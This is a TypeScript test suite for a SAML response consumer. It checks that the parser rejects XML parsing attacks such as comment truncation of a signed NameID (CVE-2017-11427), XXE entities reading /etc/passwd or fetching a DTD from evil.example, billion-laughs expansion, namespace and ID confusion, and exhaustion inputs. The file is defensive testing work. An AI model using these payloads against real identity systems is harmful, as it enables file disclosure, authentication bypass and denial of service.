// Attacks on the reading of documents: texts that two readers read differently, DOCTYPEs, namespaces, size.
// The numbers are rows of the table in src/saml/README.md.
import { describe, expect, it } from 'vitest';
import { consumeResponse } from '../../src/saml/response.ts';
import { reasonOf } from '../support/reason.ts';
import { issue, NOW_MS } from '../support/saml-issuer.ts';
import { ENVELOPED } from '../support/saml-signer.ts';
import { okta, outcome, replace, trust } from './ground.ts';

describe('1 and 2: canonicalizer and reader disagree', () => {
  for (const [what, markup, reason] of [
    ['a comment', '<!-- x -->', 'xml_comment'],
    ['a processing instruction', '<?x y?>', 'xml_processing_instruction'],
    ['a CDATA section', '<![CDATA[x]]>', 'xml_cdata'],
  ] as const) {
    it(`refuses ${what} in NameID, attribute, DigestValue and between elements`, async () => {
      for (const place of [
        'ada@acme',
        '<saml2:AttributeStatement>',
        '</ds:DigestValue>',
        '<saml2p:Status>',
        '</saml2p:Response>',
      ]) {
        expect(await outcome(replace(okta, place, `${markup}${place}`))).toBe(reason);
      }
    });
  }

  it('refuses the comment that a genuine signature covers in its other form', async () => {
    // CVE-2017-11427: the identity provider signs
    // `ada@acme.test.evil.example`; a comment cuts it for a careless reader.
    const xml = await issue({
      editAssertion: (text) => replace(text, '>ada@acme.test<', '>ada@acme.test.evil.example<'),
    });
    expect(await outcome(replace(xml, 'ada@acme.test.evil', 'ada@acme.test<!---->.evil'))).toBe(
      'xml_comment',
    );
  });

  it('reads a NameID of several entities as one text', async () => {
    const xml = await issue({
      editAssertion: (text) => replace(text, '>ada@acme.test<', '>ada@acme.te&#115;t&amp;x<'),
    });
    expect(await outcome(xml)).toMatchObject({ returned: { nameId: 'ada@acme.test&x' } });
  });
});

describe('5 and 20: DOCTYPE, entities, two parsers', () => {
  const declared = (doctype: string, text = okta) => replace(text, '?>', `?>${doctype}`);
  for (const [what, doctype] of [
    ['a bare DOCTYPE', '<!DOCTYPE x>'],
    ['an external entity', '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'],
    ['a parameter entity', '<!DOCTYPE x [<!ENTITY % e SYSTEM "https://evil.example/x.dtd"> %e;]>'],
    [
      'a billion laughs',
      '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;">]>',
    ],
    [
      'an ATTLIST that makes another attribute the ID',
      '<!DOCTYPE x [<!ATTLIST saml2:Assertion foo ID #IMPLIED>]>',
    ],
    ['a DOCTYPE of lower case', '<!doctype x>'],
  ] as const) {
    it(`refuses ${what}`, async () => {
      expect(['xml_doctype', 'xml_malformed']).toContain(await outcome(declared(doctype)));
    });
  }
  it('refuses an entity that nothing declares, also in an ID (8)', async () => {
    expect(await outcome(replace(okta, 'ada@acme', '&ada;@acme'))).toBe('xml_unknown_entity');
    expect(await outcome(replace(okta, 'ID="id41"', 'ID="&x;id41"'))).toBe('xml_unknown_entity');
  });
  it('refuses an XSLT transform', async () => {
    const xml = await issue({
      signature: {
        editSignedInfo: (text) => replace(text, ENVELOPED, 'http://www.w3.org/TR/1999/REC-xslt-19991116'),
      },
    });
    expect(await outcome(xml)).toBe('transform_refused');
  });
  it('refuses UTF-16, UTF-7 and a declared encoding that is another', async () => {
    const utf16 = Buffer.from(okta, 'utf16le').toString('base64');
    expect(
      String(await reasonOf(() => consumeResponse({ samlResponse: utf16, trust, nowMs: NOW_MS }))),
    ).toMatch(/^xml_/);
    expect(await outcome(replace(okta, 'UTF-8', 'UTF-7'))).toBe('xml_encoding');
  });
});

describe('7: void canonicalization and polluted attributes', () => {
  for (const [what, markup, reason] of [
    ['a relative namespace name', ' xmlns:r="1"', 'xml_relative_namespace'],
    ['a relative namespace name with a dot', ' xmlns:r="./x"', 'xml_relative_namespace'],
    ['an empty namespace name with a prefix', ' xmlns:r=""', 'xml_empty_namespace'],
    ['xml bound anew', ' xmlns:xml="urn:x"', 'xml_reserved_prefix'],
    ['xmlns bound', ' xmlns:xmlns="urn:x"', 'xml_reserved_prefix'],
    [
      'another prefix for the xml namespace',
      ' xmlns:r="http://www.w3.org/XML/1998/namespace"',
      'xml_reserved_prefix',
    ],
    ['a second ID', ' ID="id42"', 'xml_duplicate_attribute'],
    ['an Id beside the ID', ' Id="id42"', 'id_ambiguous'],
    ['an ID in a namespace', ' xmlns:r="urn:r" r:ID="id42"', 'id_ambiguous'],
    [
      'two attributes of one expanded name',
      ' xmlns:r="urn:r" xmlns:q="urn:r" r:a="1" q:a="2"',
      'xml_duplicate_attribute',
    ],
  ] as const) {
    it(`refuses ${what}`, async () => {
      expect(await outcome(replace(okta, '<saml2:Assertion ', `<saml2:Assertion${markup} `))).toBe(reason);
    });
  }
  it('refuses the digest of nothing although the key has signed it', async () => {
    const editSignedInfo = (text: string) =>
      replace(text, /<ds:DigestValue>[^<]*/, '<ds:DigestValue>47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU=');
    expect(await outcome(await issue({ signature: { editSignedInfo } }))).toBe('digest_of_nothing');
  });
  it('refuses names that the tree builder would rename', async () => {
    const attribute = '<saml2:AttributeStatement><saml2:Attribute Name="x"><saml2:AttributeValue>';
    for (const name of ['toString', '__proto__', 'hasOwnProperty', 'constructor']) {
      const xml = replace(
        okta,
        '<saml2:AttributeStatement>',
        `${attribute}<${name}/></saml2:AttributeValue></saml2:Attribute>`,
      );
      expect(await outcome(xml)).toBe('xml_reserved_name');
    }
  });
});

describe('21: exhaustion', () => {
  it.each([
    [
      'depth',
      () => `<saml2p:Extensions>${'<x>'.repeat(100)}${'</x>'.repeat(100)}</saml2p:Extensions>`,
      'xml_too_deep',
    ],
    [
      'elements',
      () => `<saml2p:Extensions>${'<x/>'.repeat(6_000)}</saml2p:Extensions>`,
      'xml_too_many_nodes',
    ],
    [
      'attributes',
      () => `<saml2p:Extensions ${Array.from({ length: 65 }, (_, i) => `a${i}="1"`).join(' ')}/>`,
      'xml_too_many_nodes',
    ],
    [
      'namespace declarations',
      () =>
        `<saml2p:Extensions>${Array.from({ length: 50 }, (_, i) => `<x xmlns:a${i}="urn:${i}" xmlns:b${i}="urn:${i}" xmlns:c${i}="urn:${i}">`).join('')}${'</x>'.repeat(50)}</saml2p:Extensions>`,
      'xml_too_many_nodes',
    ],
  ])('stops at too many %s', async (_, make, reason) => {
    expect(await outcome(replace(okta, '<saml2p:Status>', `${make()}<saml2p:Status>`))).toBe(reason);
  });
  it('stops at a namespace name that would be canonicalized to megabytes', async () => {
    const name = `urn:${'x'.repeat(20_000)}`;
    const values = '<n:v/>'.repeat(2_000);
    const attributes = `<saml2:AttributeStatement><saml2:Attribute Name="x"><saml2:AttributeValue><w xmlns:n="${name}">${values}</w></saml2:AttributeValue></saml2:Attribute></saml2:AttributeStatement>`;
    const xml = replace(okta, /<saml2:AttributeStatement>.*<\/saml2:AttributeStatement>/, attributes);
    expect(['xml_not_canonicalizable', 'digest_mismatch', 'xml_too_large']).toContain(await outcome(xml));
  });
  it('stops at a PrefixList of thousands', async () => {
    const list = Array.from({ length: 5_000 }, (_, i) => `p${i}`).join(' ');
    const xml = replace(okta, 'PrefixList="xs"', `PrefixList="${list}"`);
    expect(await outcome(xml)).toBe('signature_malformed');
  });
});
